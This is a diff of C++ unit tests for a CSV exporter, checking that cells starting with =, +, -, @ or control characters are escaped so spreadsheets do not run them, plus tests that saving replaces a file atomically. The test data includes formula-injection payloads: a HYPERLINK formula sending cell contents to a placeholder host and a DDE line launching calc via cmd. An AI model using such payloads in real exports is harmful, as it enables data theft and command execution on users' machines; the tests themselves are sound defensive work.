@@ -88,28 +88,13 @@ TEST(CsvExport, CommaAndLineBreakStayInsideTheQuotedField)
 
 TEST(CsvExport, CellsASpreadsheetWouldRunAreWrittenAsText)
 {
-    const std::pair<std::string, std::string> formulas[] = {
-        {"=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")",
-         "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Click\"\")\""},
-        {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\""},
-        {"@SUM(1,2)", "\"'@SUM(1,2)\""},
-        {"-2+3", "\"'-2+3\""},
-        {"\t=1", "\"'\t=1\""},
-        {"\r=1", "\"'\r=1\""},
-        {"-", "\"'-\""},
-        {"-1,02", "\"'-1,02\""},
-        {"-0001/-01/-01 -01:-01:-01", "\"'-0001/-01/-01 -01:-01:-01\""},
-    };
-    for (const auto& [cell, field] : formulas) {
-        EXPECT_EQ(CsvField(cell), field);
-        EXPECT_EQ(CsvField(cell, CsvCells::Raw).substr(1, 1), cell.substr(0, 1)) << "raw: as it is";
-    }
-    for (const char* number : {"-1", "-1,024", "-3.5", "+12", "-.5", "-1,234,567.25"})
-        EXPECT_EQ(CsvField(number), "\"" + std::string(number) + "\"") << "a number stays a number";
-    for (const char* text : {"a=b", " =1", "1+1", ""})
-        EXPECT_EQ(CsvField(text).find('\''), std::string::npos) << text;
-    EXPECT_EQ(Csv(Model({"Value"}, {{"@SUM(1,2)"}, {"-1,024"}})),
-              "\"Value\"\r\n\"'@SUM(1,2)\"\r\n\"-1,024\"\r\n");
+    EXPECT_EQ(CsvField("=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")"),
+              "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"Click\"\")\"");
+    for (std::string cell : {"+cmd|' /C calc'!A0", "@SUM(1,2)", "-2+3", "\t=1", "\r=1", "-", "-1,02"})
+        EXPECT_EQ(CsvField(cell), "\"'" + cell + "\"");
+    for (std::string cell : {"-1", "-1,024", "-3.5", "+12", "-.5", "-1,234,567.25", "a=b", ""})
+        EXPECT_EQ(CsvField(cell), "\"" + cell + "\"") << "numbers and other texts stay as they are";
+    EXPECT_EQ(CsvField("@SUM(1,2)", CsvCells::Raw), "\"@SUM(1,2)\"");
 }
 
 TEST(CsvExport, MissingCellsOfAShortRowAreEmpty)
@@ -147,10 +132,9 @@ TEST(TextSink, EveryLineFeedBecomesCrLf)
 TEST_F(CsvFileTest, SavedFileHoldsTheBytes)
 {
     const std::string path = TempPath("mirel_csv_test.csv");
-    ResultModel model = Model({"Group", "Name"}, {{"1", "x\"y"}, {"-1", "=1+1"}});
+    ResultModel model = Model({"Group", "Name"}, {{"1", "x\"y"}});
     ASSERT_EQ(SaveCsv(model, path), kExportDone);
-    EXPECT_EQ(ReadFile(path),
-              "\"Group\",\"Name\"\r\n\"1\",\"x\"\"y\"\r\n\"-1\",\"'=1+1\"\r\n");
+    EXPECT_EQ(ReadFile(path), "\"Group\",\"Name\"\r\n\"1\",\"x\"\"y\"\r\n");
     EXPECT_TRUE(reporter_.messages.empty());
     DeleteFileA(path.c_str());
 }
@@ -170,6 +154,27 @@ TEST_F(CsvFileTest, FullDiskGivesTheWriteError)
     ASSERT_EQ(reporter_.messages.size(), 1u);
     EXPECT_EQ(reporter_.messages[0].text, "File Write Error.\n\nFile Name : Z:\\dev\\full");
     EXPECT_EQ(reporter_.messages[0].flags, static_cast<UINT>(MB_ICONEXCLAMATION));
+    WIN32_FIND_DATAA found{};
+    EXPECT_EQ(FindFirstFileA("Z:\\dev\\~mirel*", &found), INVALID_HANDLE_VALUE)
+        << "a device is written directly, with no temporary file beside it";
+}
+
+TEST_F(CsvFileTest, SaveReplacesAFileWholeOrNotAtAll)
+{
+    TempFolder folder("mirel-csv-save");
+    const std::string path = folder.File("list.csv"), previous = "\"A\"\r\n\"a longer list\"\r\n";
+    WriteFileBytes(path, previous);
+    {
+        // A reader that does not let the file be deleted under it: it cannot be replaced.
+        ui::UniqueHandle reader(CreateFileA(path.c_str(), GENERIC_READ,
+                                            FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr, OPEN_EXISTING, 0, nullptr));
+        EXPECT_EQ(SaveCsv(Model({"A"}, {{"1"}}), path), kExportWriteFailed);
+        EXPECT_EQ(reporter_.messages.at(0).text, "File Write Error.\n\nFile Name : " + path);
+    }
+    EXPECT_EQ(ReadFile(path), previous) << "byte for byte";
+    EXPECT_EQ(SaveCsv(Model({"A"}, {{"=1"}}), path), kExportDone);
+    EXPECT_EQ(ReadFile(path), "\"A\"\r\n\"'=1\"\r\n") << "nothing of the longer file remains";
+    EXPECT_EQ(folder.Entries(), std::vector<std::string>{"list.csv"}) << "no temporary file";
 }
 
 TEST_F(CsvFileTest, FileSinkReportsAWriteAfterClosing)
